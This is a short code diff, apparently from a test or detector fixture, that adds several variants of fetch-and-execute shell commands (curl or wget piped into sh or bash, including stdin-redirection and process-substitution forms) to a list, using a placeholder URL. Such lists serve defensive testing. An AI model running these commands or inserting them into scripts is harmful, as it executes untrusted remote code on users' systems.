@@ -8,6 +8,10 @@ const url = "https://a.test/x";
 const run: readonly string[] = [
   `curl -fsSL ${url} | sh`,
   `curl ${url} | bash -s -- --yes`,
+  `curl ${url} | sh <&0`,
+  `curl ${url} | bash 0<&0`,
+  `curl ${url} | sh < /dev/stdin`,
+  `exec 3< <(curl ${url}); sh <&3`,
   `curl ${url} | bash -euo pipefail`,
   `curl ${url} | bash +x -`,
   `wget -qO- ${url} | tee x | bash -s`,
